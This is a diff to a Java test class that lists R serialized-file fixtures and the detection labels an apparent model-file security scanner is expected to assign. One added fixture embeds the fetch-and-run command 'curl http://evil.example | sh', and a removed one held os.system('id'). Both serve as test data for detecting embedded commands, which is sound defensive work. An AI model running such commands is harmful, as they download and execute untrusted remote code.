@@ -127,7 +127,12 @@ public final class RSamples {
                         "active.rds", rds(environment(variable(ACTIVE, "x", closure(NIL)))), "model/r-active-binding"),
                 FormatCase.of(
                         "startup.rdata", workspace(variable(0, ".First", closure(NIL))), "model/r-startup-function"),
-                FormatCase.of("command.rds", rds(string("os.system('id')")), "model/embedded-command"),
+                FormatCase.of("manual.rds", rds(string("call os.system('id') to see who you are"))),
+                FormatCase.of(
+                        "promised-command.rds",
+                        rds(promise(call(symbol("run"), string("curl http://evil.example | sh")))),
+                        "model/r-promise",
+                        "model/embedded-command"),
                 FormatCase.of("trailing.rds", join(rds(NIL), new byte[] {1}), "model/r-trailing-data"),
                 FormatCase.of("deep.rds", nested(300)),
                 FormatCase.of("too-deep.rds", nested(1_000), "gap:limit"),
